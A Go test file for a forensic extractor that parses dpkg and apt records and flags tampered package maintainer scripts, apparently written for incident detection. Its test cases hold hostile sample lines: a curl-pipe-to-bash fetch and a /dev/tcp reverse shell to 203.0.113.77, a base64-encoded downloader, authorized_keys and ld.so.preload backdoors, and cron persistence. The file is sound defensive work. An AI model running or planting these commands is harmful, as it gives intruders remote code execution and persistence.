package dpkg

import (
	"bytes"
	"context"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
)

func extract(t testing.TB, name string, text []byte) ([]artifact.Record, error) {
	t.Helper()
	in := &artifact.Input{Path: name, System: &artifact.System{Zone: time.FixedZone("CET", 3600)}, Content: io.NewSectionReader(bytes.NewReader(text), 0, int64(len(text)))}
	var out []artifact.Record
	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) { out = append(out, r) })
	return out, err
}

func TestExtract(t *testing.T) {
	for _, tt := range []struct {
		path string
		want []string
	}{
		{"/var/lib/dpkg/status", []string{
			"1 package.entry manager=dpkg package=libc6 status=install ok installed maintainer=GNU Libc Maintainers <debian-glibc@lists.debian.org> architecture=amd64 version=2.36-9+deb12u10",
			"13 package.entry manager=dpkg package=aegis status=deinstall ok config-files architecture=all version=1.0",
		}},
		{"/var/lib/dpkg/info/libc6:amd64.list", []string{"0 package.list manager=dpkg package=libc6 architecture=amd64 files=5"}},
		{"/var/lib/dpkg/diversions", []string{
			"1 package.diversion manager=dpkg from=/usr/bin/ldd to=/usr/bin/ldd.orig package=myldd",
			"4 package.diversion manager=dpkg from=/lib/foo to=/lib/foo.local",
		}},
		{"/var/log/dpkg.log", []string{
			"2 dpkg.action logged=2026-11-16T09:00:01Z action=install package=web01-agent architecture=all version=1.0",
			"4 dpkg.action logged=2026-11-16T09:00:02Z action=upgrade package=openssh-server architecture=amd64 old_version=1:9.2p1-2 version=1:9.2p1-3",
			"6 dpkg.action logged=2026-11-16T09:00:04Z action=remove package=nano architecture=amd64 old_version=7.2-1",
			"7 dpkg.action logged=2026-11-16T09:00:05Z action=purge package=nano architecture=amd64 old_version=7.2-1",
		}},
		{"/var/log/apt/history.log", []string{
			"2 apt.command started=2026-11-16T09:00:00Z ended=2026-11-16T09:00:09Z command=apt-get install -y curl gcc requested_by=deploy (1000) install=curl:amd64 (7.88.1-10), gcc:amd64 (4:12.2.0-3)",
			"8 apt.command started=2026-11-17T05:00:00Z command=/usr/bin/unattended-upgrade upgrade=openssl:amd64 (3.0.1, 3.0.2)",
		}},
	} {
		b, err := os.ReadFile("testdata" + tt.path)
		if err != nil {
			t.Fatal(err)
		}
		records, err := extract(t, tt.path, b)
		if err != nil {
			t.Errorf("%s: %v", tt.path, err)
		}
		var got []string
		for _, r := range records {
			got = append(got, artifacttest.Plain(r))
			// The source begins where its line does.
			if n := r.Source.Line; n > 0 && bytes.Count(b[:r.Source.Offset], []byte("\n")) != n-1 {
				t.Errorf("%s: %s: offset %d is not in that line", tt.path, artifacttest.Plain(r), r.Source.Offset)
			}
		}
		if d := cmp.Diff(tt.want, got); d != "" {
			t.Errorf("%s: %s", tt.path, d)
		}
	}
}

// TestScripts: each script with a planted line has a twin that differs in that
// line alone.
func TestScripts(t *testing.T) {
	for _, tt := range []struct {
		name string
		line int // of the source
		want map[string]string
	}{
		{"openssh-server.postinst", 21, map[string]string{
			"package": "openssh-server", "script": "postinst", "interpreter": "/bin/sh", "notable": "hidden_exec,nohup,temp_exec,temp_path",
			"suspicious_line": "nohup /tmp/.ICE-unix/.x/kswapd0 >/dev/null 2>&1 &", "trailing_code": "nohup /tmp/.ICE-unix/.x/kswapd0 >/dev/null 2>&1 &", "appended_code": "", "line_endings": "", "urls": "",
		}},
		{"openssh-client.postinst", 0, map[string]string{"notable": "", "suspicious_line": "", "trailing_code": "", "appended_code": ""}},
		{"nginx.postinst", 8, map[string]string{
			"notable": "fetch,pipe_to_shell", "suspicious_line": "(curl -fsSL http://203.0.113.77/i.sh || wget -qO- http://203.0.113.77/i.sh) | bash",
			"appended_code": "(curl -fsSL http://203.0.113.77/i.sh || wget -qO- http://203.0.113.77/i.sh) | bash", "urls": "http://203.0.113.77/i.sh",
		}},
		{"systemd.postinst", 0, map[string]string{"notable": "", "suspicious_line": "", "trailing_code": "", "appended_code": ""}},
		{"libc6:amd64.postinst", 0, map[string]string{"package": "libc6", "architecture": "amd64", "line_endings": "mixed", "notable": ""}},
		{"perlish.prerm", 0, map[string]string{"interpreter": "/usr/bin/perl -w", "script": "prerm", "notable": ""}},
		{"bash.preinst", 0, map[string]string{"interpreter": "ELF", "size": "7", "programs": ""}},
	} {
		p := "/var/lib/dpkg/info/" + tt.name
		b, err := os.ReadFile("testdata" + p)
		if err != nil {
			t.Fatal(err)
		}
		records, err := extract(t, p, b)
		if err != nil || len(records) != 1 {
			t.Fatalf("%s: %d records, %v", tt.name, len(records), err)
		}
		r := records[0]
		for name, want := range tt.want {
			if got := r.Get(name); got != want {
				t.Errorf("%s: %s is %q, want %q", tt.name, name, got, want)
			}
		}
		if r.Source.Line != tt.line {
			t.Errorf("%s: line %d, want %d", tt.name, r.Source.Line, tt.line)
		}
		if tt.line > 0 {
			if got, want := string(b[r.Source.Offset:r.Source.Offset+r.Source.Length]), strings.Split(string(b), "\n")[tt.line-1]; got != want {
				t.Errorf("%s: the source is %q, not %q", tt.name, got, want)
			}
		}
	}
}

// TestOtherLanguage: a script that no shell runs is judged in its own language.
func TestOtherLanguage(t *testing.T) {
	for text, notable := range map[string]string{
		"#!/usr/bin/python3\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.77/x').read())\n":        "pipe_to_shell",
		"#!/usr/bin/perl\nsystem(\"/tmp/.k/x -d\");\n":                                                                     "hidden_exec,temp_exec,temp_path",
		"#!/usr/bin/python3\n# exec(urllib.request.urlopen('http://x'))\nimport sys\nprint(sys.argv)\n":                    "",
		"#!/usr/bin/perl -w\nuse Debconf::Client::ConfModule ':all';\nmy $x = eval { get('a/b') };\nsystem('ldconfig');\n": "",
	} {
		records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		if got := records[0].Get("notable"); got != notable {
			t.Errorf("%q: %q, want %q", text, got, notable)
		}
	}
}

// TestPlanted appends to a clean script what intruders append.
func TestPlanted(t *testing.T) {
	clean, err := os.ReadFile("testdata/var/lib/dpkg/info/openssh-client.postinst")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ add, notable string }{
		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "dev_tcp"},
		{"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L2kuc2ggfCBzaAo= | base64 -d | sh", "base64"},
		{"echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", "authorized_keys"},
		{"echo /usr/local/lib/libx.so > /etc/ld.so.preload", "ld.so.preload"},
		{"chattr +i /usr/bin/x", "chattr"},
		{"(crontab -l; echo '* * * * * x') | crontab -", "crontab"},
		{"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://x\").read())'", "interpreter_fetch"},
		{"/usr/lib/.../sshd", "dots_dir"},
		{"cp /usr/bin/curl /usr/bin/url", ""},
		{"echo '* * * * * root /usr/sbin/k' > /etc/cron.d/x", "cron_write"},
		{"touch /etc/cron.d/mention", ""},
		{"rm -f /etc/cron.d/x", ""},
		{"py3compile -p python3-urllib3", ""},
		{"# nohup curl http://x | sh", ""},
	} {
		text := strings.Replace(string(clean), "\nexit 0\n", "\n"+tt.add+"\nexit 0\n", 1)
		records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		got := records[0].Get("notable")
		if tt.notable == "" && got != "" || !strings.Contains(","+got+",", ","+tt.notable+",") && tt.notable != "" {
			t.Errorf("%q: %q, want %q", tt.add, got, tt.notable)
		}
	}
}

// TestPadded hides the line behind more text than is read.
func TestPadded(t *testing.T) {
	text := "#!/bin/sh\nset -e\n" + strings.Repeat(": padding\n", 100_000) + "nohup /tmp/.x/kswapd0 &\n"
	records, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	r := records[0]
	if got := text[r.Source.Offset : r.Source.Offset+r.Source.Length]; got != "nohup /tmp/.x/kswapd0 &" || r.Get("cut") != "yes" || r.Source.Line != 0 {
		t.Errorf("%s: %q", artifacttest.Plain(r), got)
	}
}

func TestRPM(t *testing.T) {
	records, err := extract(t, "/var/lib/rpm/rpmdb.sqlite", make([]byte, 100))
	if err != nil || len(records) != 1 || artifacttest.Plain(records[0]) != "0 package.database manager=rpm format=sqlite size=100" {
		t.Error(records, err)
	}
}

func TestBroken(t *testing.T) {
	for _, tt := range []struct {
		path, text string
		records    int
		err        string
	}{
		{"/var/lib/dpkg/diversions", "/a\n/b\n", 0, "not whole"},
		{"/var/log/apt/history.log", "Start-Date: yesterday\nCommandline: x\n", 1, "line 1"},
		{"/var/log/dpkg.log.1.gz", "\x1f\x8b\x08\x00torn", 0, "gzip"},
		{"/var/lib/dpkg/status", strings.Repeat("Package: a\n", maxPackages+1), maxPackages, "more than"},
	} {
		records, err := extract(t, tt.path, []byte(tt.text))
		if len(records) != tt.records || err == nil || !strings.Contains(err.Error(), tt.err) {
			t.Errorf("%s: %d records, %v", tt.path, len(records), err)
		}
	}
}

func owners(t *testing.T) *Owners {
	t.Helper()
	o := &Owners{}
	for _, err := range []error{
		o.AddList("libc6:amd64", strings.NewReader("/.\n/lib\n/lib/x/libc.so.6\n/lib/foo\n/usr/share\n")),
		o.AddList("libc-bin", strings.NewReader("/usr/share\n/usr/bin/ldd\n")),
		o.AddList("myldd", strings.NewReader("/usr/bin/ldd\n")),
		o.AddMD5Sums("libc6:amd64", strings.NewReader("00112233445566778899aabbccddeeff  lib/x/libc.so.6\nbad line\n00  x\nzz112233445566778899aabbccddeeff  lib/y\n")),
		o.AddMD5Sums("libc-bin", strings.NewReader("11111111111111111111111111111111  usr/bin/ldd\n")),
		o.AddMD5Sums("myldd", strings.NewReader("22222222222222222222222222222222  usr/bin/ldd\n")),
		o.AddDiversions(strings.NewReader("/usr/bin/ldd\n/usr/bin/ldd.orig\nmyldd\n/lib/foo\n/lib/foo.local\n:\n")),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	return o
}

func TestOwners(t *testing.T) {
	var none Owners
	if _, ok := none.Owner("/bin/sh"); ok || none.Known() {
		t.Error("the zero value knows something")
	}
	o := owners(t)
	for _, tt := range []struct{ path, pkg, md5 string }{
		{"/lib/x/libc.so.6", "libc6", "00112233445566778899aabbccddeeff"},
		{"/usr/lib/x/libc.so.6", "libc6", "00112233445566778899aabbccddeeff"},
		{"/usr/share", "libc6", ""},
		{"/usr/bin/ldd", "myldd", "22222222222222222222222222222222"},
		{"/bin/ldd", "myldd", "22222222222222222222222222222222"},
		{"/usr/bin/ldd.orig", "libc-bin", "11111111111111111111111111111111"},
		{"/lib/foo.local", "libc6", ""},
		{"/lib/foo", "", ""},
		{"/usr/bin/.sshd-agent", "", ""},
		{"", "", ""},
	} {
		pkg, ok := o.Owner(tt.path)
		md5, _ := o.MD5(tt.path)
		if pkg != tt.pkg || ok != (tt.pkg != "") || md5 != tt.md5 {
			t.Errorf("%s: %q %v %q, want %q %q", tt.path, pkg, ok, md5, tt.pkg, tt.md5)
		}
	}
}

// TestOwnersOfThisSystem asks dpkg itself.
func TestOwnersOfThisSystem(t *testing.T) {
	const info = "/var/lib/dpkg/info/"
	lists, _ := filepath.Glob(info + "*.list")
	if _, err := exec.LookPath("dpkg-query"); err != nil || len(lists) == 0 {
		t.Skip("this system has no dpkg database")
	}
	o := &Owners{}
	read := func(name string, add func(io.Reader) error) {
		f, err := os.Open(name)
		if os.IsNotExist(err) {
			return
		} else if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := add(f); err != nil {
			t.Fatal(err)
		}
	}
	for _, l := range lists {
		base := strings.TrimSuffix(l, ".list")
		pkg := filepath.Base(base)
		read(l, func(r io.Reader) error { return o.AddList(pkg, r) })
		read(base+".md5sums", func(r io.Reader) error { return o.AddMD5Sums(pkg, r) })
	}
	read("/var/lib/dpkg/diversions", o.AddDiversions)
	sample := make([]string, 0, 500)
	for _, l := range lists {
		pkg := strings.TrimSuffix(filepath.Base(l), ".list")
		out, err := exec.Command("dpkg", "-L", pkg).Output()
		if err != nil {
			continue
		}
		for i, p := range strings.Split(string(out), "\n") {
			if st, err := os.Lstat(p); i%11 == 5 && strings.HasPrefix(p, "/") && err == nil && st.Mode().IsRegular() {
				sample = append(sample, p)
			}
		}
		if len(sample) > 3000 {
			break
		}
	}
	out, err := exec.Command("dpkg", append([]string{"-S", "--"}, sample...)...).Output()
	if err != nil {
		t.Log("dpkg -S: ", err)
	}
	checked := 0
	for _, l := range strings.Split(string(out), "\n") {
		pkgs, p, ok := strings.Cut(l, ": ")
		if !ok || strings.HasPrefix(l, "diversion ") {
			continue
		}
		pkg, ok := o.Owner(p)
		found := false
		for _, w := range strings.Split(pkgs, ", ") {
			name, _, _ := strings.Cut(w, ":")
			found = found || name == pkg
		}
		if !ok || !found {
			t.Errorf("%s: %q, dpkg says %q", p, pkg, pkgs)
		}
		checked++
	}
	sums := 0
	for i := 0; i < len(sample); i += 20 {
		want, ok := o.MD5(sample[i])
		if !ok {
			continue
		}
		out, err := exec.Command("md5sum", "--", sample[i]).Output()
		if err == nil && !strings.HasPrefix(string(out), want) {
			t.Logf("%s was changed after its installation", sample[i])
			continue
		}
		sums++
	}
	t.Logf("%d paths agree with dpkg -S, %d sums with md5sum", checked, sums)
	if checked < len(sample)/2 || sums == 0 {
		t.Errorf("of %d paths only %d were answered by dpkg, %d sums agree", len(sample), checked, sums)
	}
}

// TestStatusOfThisSystem asks dpkg-query itself.
func TestStatusOfThisSystem(t *testing.T) {
	b, err := os.ReadFile("/var/lib/dpkg/status")
	if err != nil {
		t.Skip("this system has no dpkg database: ", err)
	}
	out, err := exec.Command("dpkg-query", "-W", "-f", "${Package} ${Version} ${Architecture} ${Status} ${Maintainer}\n").Output()
	if err != nil {
		t.Skip("dpkg-query: ", err)
	}
	records, err := extract(t, "/var/lib/dpkg/status", b)
	if err != nil {
		t.Fatal(err)
	}
	got := make(map[string]bool)
	for _, r := range records {
		got[r.Get("package")+" "+r.Get("version")+" "+r.Get("architecture")+" "+r.Get("status")+" "+r.Get("maintainer")] = true
	}
	want := strings.Split(strings.TrimSpace(string(out)), "\n")
	for _, w := range want {
		if !got[w] {
			t.Errorf("missing: %s", w)
		}
	}
	t.Logf("%d packages of dpkg-query, %d records", len(want), len(records))
}

func FuzzExtract(f *testing.F) {
	names := []string{
		"/var/lib/dpkg/status", "/var/lib/dpkg/diversions", "/var/lib/dpkg/info/libc6:amd64.list", "/var/lib/dpkg/info/nginx.postinst",
		"/var/log/dpkg.log", "/var/log/apt/history.log",
	}
	for i, name := range names {
		b, err := os.ReadFile("testdata" + name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(byte(i), b)
	}
	f.Fuzz(func(t *testing.T, which byte, b []byte) {
		records, _ := extract(t, names[int(which)%len(names)], b)
		for _, r := range records {
			if r.Source.Member == "" && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > int64(len(b))) {
				t.Fatalf("%s: source outside of the file", artifacttest.Plain(r))
			}
		}
		var o Owners
		_ = o.AddList("a", bytes.NewReader(b))
		_ = o.AddMD5Sums("a", bytes.NewReader(b))
		_ = o.AddDiversions(bytes.NewReader(b))
		o.Owner("/bin/sh")
		o.MD5("/bin/sh")
	})
}

// TestHostileScripts judges what is made to take long.
func TestHostileScripts(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("nohup x\n", maxScript/16/8),
		strings.Repeat("a='\n", maxScript/16/4),
		strings.Repeat("if x\n", maxScript/16/5),
		strings.Repeat("`", maxScript),
		strings.Repeat("$((", maxScript/16/3),
		strings.Repeat("((", maxScript/16/2),
		strings.Repeat("<<a\n", maxScript/16/4),
		strings.Repeat("x;", maxScript/16/2),
		strings.Repeat("case x in x) ", maxScript/16/13),
		strings.Repeat("while x; do\n", maxScript/16/12),
		strings.Repeat("curl http://a/ | ", maxScript/16/17),
		strings.Repeat("curl -o a ", maxScript/16/10),
		strings.Repeat("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\n", maxScript/16/57),
	} {
		began := time.Now()
		if _, err := extract(t, "/var/lib/dpkg/info/x.postinst", []byte(text)); err != nil {
			t.Error(err)
		}
		if took := time.Since(began); took > time.Second {
			t.Logf("%q...: %v", text[:12], took)
		}
	}
}

// TestMerged: a path below /bin, /sbin and the directories of libraries is that below
// /usr, by either name.
func TestMerged(t *testing.T) {
	var o Owners
	if err := o.AddList("a:amd64", strings.NewReader("/.\n/bin/b\n/usr/sbin/s\n/lib/l\n/usr/lib32/m\n/lib64/ld-linux-x86-64.so.2\n/libx32/x\n/etc/e\n")); err != nil {
		t.Fatal(err)
	}
	for p, want := range map[string]bool{
		"/bin/b": true, "/usr/bin/b": true, "/sbin/s": true, "/usr/sbin/s": true, "/lib/l": true, "/usr/lib/l": true, "/lib32/m": true, "/usr/lib32/m": true,
		"/lib64/ld-linux-x86-64.so.2": true, "/usr/lib64/ld-linux-x86-64.so.2": true, "/libx32/x": true, "/usr/libx32/x": true,
		"/etc/e": true, "/usr/etc/e": false, "/opt/bin/b": false, "/.": false, "/lib64": false,
	} {
		if pkg, ok := o.Owner(p); ok != want || ok && pkg != "a" {
			t.Errorf("%s: %q, %v", p, pkg, ok)
		}
	}
}
